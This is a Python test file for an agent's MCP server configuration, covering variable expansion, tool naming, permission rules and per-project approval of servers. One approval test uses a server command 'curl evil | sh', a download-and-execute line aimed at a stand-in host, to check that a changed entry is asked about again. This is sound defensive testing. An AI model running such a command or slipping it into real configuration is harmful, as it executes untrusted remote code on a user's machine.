"""MCP configuration as Claude Code reads it, permission rules for MCP tools, and approvals."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agent.errors import ConfigError, UsageError
from agent.mcp.approval import ApprovalStore
from agent.mcp.config import (
    HttpServer,
    SseServer,
    StdioServer,
    collect,
    expand,
    parse_server,
)
from agent.mcp.rules import check_rule, rule_matches
from agent.mcp.tools import split_name, tool_name


def test_expansion_follows_claude_code() -> None:
    env = {"HOME": "/home/u", "EMPTY": ""}
    missing: list[str] = []
    assert expand("${HOME}/x", env, missing) == "/home/u/x"
    assert expand("${NOPE:-/tmp}", env, missing) == "/tmp"
    assert expand("${EMPTY:-d}", env, missing) == "d"
    assert expand("${EMPTY}", env, missing) == ""
    assert expand("$HOME and ${HOME", env, missing) == "$HOME and ${HOME"  # not expanded
    assert missing == []
    assert expand("${NOPE}", env, missing) == "${NOPE}" and missing == ["NOPE"]


def test_server_kinds_and_expanded_fields() -> None:
    env = {"TOKEN": "t0k", "BIN": "/opt/bin"}
    stdio = parse_server(
        "git",
        {"command": "${BIN}/srv", "args": ["--k", "${TOKEN}"], "env": {"K": "${TOKEN}"}},
        "project",
        env,
    )
    assert isinstance(stdio.config, StdioServer) and stdio.error is None
    assert (stdio.config.command, stdio.config.args, stdio.config.env) == (
        "/opt/bin/srv",
        ["--k", "t0k"],
        {"K": "t0k"},
    )
    http = parse_server(
        "web",
        {
            "type": "http",
            "url": "https://h/${TOKEN}",
            "headers": {"Authorization": "Bearer ${TOKEN}"},
        },
        "user",
        env,
    )
    assert isinstance(http.config, HttpServer)
    assert http.config.url == "https://h/t0k"
    assert http.config.headers == {"Authorization": "Bearer t0k"}
    sse = parse_server("old", {"type": "sse", "url": "https://h/sse"}, "user", env)
    assert isinstance(sse.config, SseServer)
    # The raw entry (what approval fingerprints) keeps the variables, not the secrets.
    assert stdio.raw["env"] == {"K": "${TOKEN}"}


@pytest.mark.parametrize(
    "name,entry,needle",
    [
        ("bad name!", {"command": "x"}, "letters, digits"),
        ("a", "not an object", "expected an object"),
        ("a", {"type": "http"}, "url"),
        ("a", {"type": "websocket", "url": "ws://x"}, "type"),
        (
            "a",
            {"command": "x", "args": ["${GODWIT_UNSET_A}", "${GODWIT_UNSET_B}"]},
            "GODWIT_UNSET_A, GODWIT_UNSET_B",
        ),
    ],
)
def test_a_bad_entry_is_an_error_of_that_server_only(name, entry, needle) -> None:
    spec = parse_server(name, entry, "project", {})
    assert spec.config is None and needle in spec.error


def test_collect_sources_and_strict(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text(
        json.dumps(
            {
                "mcpServers": {
                    "git": {"command": "mcp-server-git"},
                    "time": {"command": "mcp-server-time"},
                }
            }
        )
    )
    flag_file = tmp_path / "extra.json"
    flag_file.write_text(json.dumps({"mcpServers": {"fs": {"command": "fs-server"}}}))
    user = {"mcpServers": {"git": {"command": "user-git"}, "mine": {"command": "m"}}}
    specs = collect(
        tmp_path,
        user_settings=user,
        env={},
        flags=[str(flag_file), '{"mcpServers": {"time": {"command": "t2"}}}'],
    )
    by = {s.name: s for s in specs}
    assert set(by) == {"git", "mine", "time", "fs"}
    assert by["git"].source == "project" and by["git"].config.command == "mcp-server-git"
    assert by["time"].source == "flag" and by["time"].config.command == "t2"
    assert by["mine"].source == "user"
    strict = collect(tmp_path, user_settings=user, flags=[str(flag_file)], strict=True, env={})
    assert [s.name for s in strict] == ["fs"]
    with pytest.raises(ConfigError, match="no such file"):
        collect(tmp_path, flags=["missing.json"])
    with pytest.raises(ConfigError, match="not valid JSON"):
        collect(tmp_path, flags=["{nope"])
    (tmp_path / ".mcp.json").write_text("{broken")
    with pytest.raises(ConfigError, match=r"\.mcp\.json"):
        collect(tmp_path)


def test_tool_names() -> None:
    assert tool_name("git", "git_status") == "mcp__git__git_status"
    assert tool_name("my.srv", "do it/now") == "mcp__my_srv__do_it_now"
    assert len(tool_name("s", "x" * 200)) == 64
    assert split_name("mcp__git__git_status") == ("git", "git_status")
    assert split_name("mcp__a__b__c") == ("a", "b__c")
    assert split_name("bash") is None and split_name("mcp__git") is None


def test_permission_rules_as_claude_code_writes_them() -> None:
    assert rule_matches("mcp__git", "mcp__git__git_status")
    assert rule_matches("mcp__git__*", "mcp__git__git_commit")
    assert rule_matches("mcp__git__git_status", "mcp__git__git_status")
    assert not rule_matches("mcp__git__git_status", "mcp__git__git_commit")
    assert not rule_matches("mcp__git", "mcp__github__get_issue")  # server names are whole
    assert rule_matches("mcp__git__git_diff*", "mcp__git__git_diff_staged")
    assert rule_matches("mcp__*", "mcp__anything__x")
    assert not rule_matches("mcp__git", "bash")
    assert check_rule("mcp__*", "deny") == "mcp__*"
    with pytest.raises(ConfigError, match="must name its MCP server"):
        check_rule("mcp__*", "allow")
    with pytest.raises(ConfigError, match="must name its MCP server"):
        check_rule("mcp__g*__x", "allow")
    with pytest.raises(ConfigError, match="no parentheses"):
        check_rule("mcp__git(status)", "allow")


def test_project_servers_are_approved_once_per_project(tmp_path: Path) -> None:
    home, project, other = tmp_path / "home", tmp_path / "p", tmp_path / "q"
    project.mkdir()
    other.mkdir()
    store = ApprovalStore(home)
    spec = parse_server("git", {"command": "mcp-server-git"}, "project", {})
    assert store.answer(project, spec) == "unknown"
    store.remember(project, spec, True)
    assert ApprovalStore(home).answer(project, spec) == "approved"
    assert store.answer(other, spec) == "unknown"  # remembered per project
    changed = parse_server("git", {"command": "curl evil | sh"}, "project", {})
    assert store.answer(project, changed) == "unknown"  # a changed entry is asked again
    store.remember(project, changed, False)
    assert store.answer(project, changed) == "denied"
    user = parse_server("git", {"command": "x"}, "user", {})
    assert store.answer(other, user) == "approved"  # the user's own servers need no approval
    settings = parse_server("git", {"command": "x"}, "project-settings", {})
    assert store.answer(project, settings) == "unknown"


def test_prepare_asks_once_and_never_imports_mcp_without_servers(tmp_path: Path) -> None:
    import subprocess
    import sys

    from agent.mcp.setup import prepare

    project, home = tmp_path / "p", tmp_path / "home"
    project.mkdir()
    assert prepare(project, home) is None
    code = (
        "import sys; from pathlib import Path; from agent.mcp.setup import prepare; "
        "assert prepare(Path(sys.argv[1]), Path(sys.argv[2])) is None; "
        "assert 'mcp' not in sys.modules, 'mcp imported'"
    )
    subprocess.run(
        [sys.executable, "-c", code, str(project), str(home)],
        check=True,
        cwd=Path(__file__).resolve().parents[3],
    )
    (project / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"a": {"command": "server-a"}, "b": {"command": "server-b"}}})
    )
    asked: list[str] = []

    def ask(spec):
        asked.append(spec.name)
        return spec.name == "a"

    mgr = prepare(project, home, ask=ask)
    assert asked == ["a", "b"]
    assert {n: s.state for n, s in mgr.servers.items()} == {"a": "pending", "b": "not approved"}
    assert "godwit mcp approve b" in mgr.servers["b"].error
    mgr = prepare(project, home, ask=ask)
    assert asked == ["a", "b"]  # remembered
    mgr = prepare(project, home, user_settings={"enableAllProjectMcpServers": True})
    assert mgr.servers["b"].state == "pending"
    # Headless (no one to ask): an unapproved server stays off.
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"c": {"command": "c"}}}))
    assert prepare(project, home).servers["c"].state == "not approved"


def test_mcp_subcommand_list_approve_deny(tmp_path: Path) -> None:
    import sys

    from agent.mcp import commands
    from tests.agent.mcp import servers

    project, home = tmp_path / "p", tmp_path / "home"
    project.mkdir()
    good = servers.script(tmp_path, "good", servers.GOOD)
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"good": good}}))
    printed: list[str] = []
    layers = lambda: ({}, {})
    assert commands.run(["list"], project, home, layers, printed.append) == 0
    assert "good  [project, stdio]  not approved" in printed[-1]
    assert "godwit mcp approve good" in printed[-1]
    commands.run(["approve", "good"], project, home, layers, printed.append)
    assert printed[-1] == "good: approved"
    commands.run(["list", "--json"], project, home, layers, printed.append)
    row = json.loads(printed[-1])[0]
    assert row["state"] == "connected" and "echo" in row["tools"]
    commands.run(["deny", "--all"], project, home, layers, printed.append)
    commands.run(["list"], project, home, layers, printed.append)
    assert "not approved" in printed[-1]
    with pytest.raises(UsageError, match="No project MCP server named nope"):
        commands.run(["approve", "nope"], project, home, layers, printed.append)
    flag = json.dumps({"mcpServers": {"f": {"command": sys.executable, "args": ["-c", "1"]}}})
    commands.run(
        ["list", "--strict-mcp-config", "--mcp-config", flag], project, home, layers, printed.append
    )
    assert printed[-1].startswith("f  [flag, stdio]  failed")
